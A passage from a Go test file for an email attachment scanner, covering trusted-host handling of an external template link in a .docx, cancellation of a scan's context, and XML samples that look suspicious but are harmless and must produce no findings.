		if _, ok := found[want[name]]; want[name] != "" && !ok || want[name] == "" && len(found) > 0 {
			t.Errorf("%s: found %v, want %q", name, found, want[name])
		}
	}
}

func TestTrustedHosts(t *testing.T) {
	c := DefaultConfig()
	c.TrustedHosts = []string{".example.com"}
	m := mailWith(t, "a.docx", related(t, "attachedTemplate", "https://share.example.com/t.dotx"))
	found, err := newScanner(t, c).Scan(t.Context(), m)
	if err != nil || len(found) != 1 || found[0].Rule != "attachment/external-link" {
		t.Errorf("found %v, %v", found, err)
	}
}

func TestScanEndsWithItsTime(t *testing.T) {
	ctx, cancel := context.WithCancel(t.Context())
	cancel()
	if _, err := newScanner(t, DefaultConfig()).Scan(ctx, mailWith(t, "a.pdf", pdfOf("null"))); err == nil {
		t.Error("no error")
	}
}

// utf16XML is a document in UTF-16 with a byte order mark.
func utf16XML(s string) []byte {
	out := []byte{0xff, 0xfe}
	for _, c := range []byte(s) {
		out = append(out, c, 0)
	}
	return out
}

// TestHonestXML has elements of those names, or the namespace, but not both.
func TestHonestXML(t *testing.T) {
	for _, text := range []string{
		`<project><script>build.sh</script><form name="a"/></project>`,
		`<feed xmlns="http://www.w3.org/2005/Atom"><content type="xhtml"><div xmlns="http://www.w3.org/1999/xhtml"><p>text <a href="http://x.test">x</a></p></div></content></feed>`,
		`<office:document-content xmlns:office="urn:o" xmlns:form="urn:f" xmlns:script="urn:s" xmlns:xhtml="http://www.w3.org/1999/xhtml"><office:scripts/><form:form/><draw:object/></office:document-content>`,
		`<feed xmlns="urn:a"><div xmlns="http://www.w3.org/1999/xhtml"><br/></div><object/><script/></feed>`,
		`<invoice xmlns="urn:oasis:names:specification:ubl:schema:xsd:Invoice-2"><object/></invoice>`,
	} {
		if found := findings(t, "a.xml", []byte(text)); len(found) > 0 {
			t.Errorf("%s: %v", text, found)
		}
	}
}
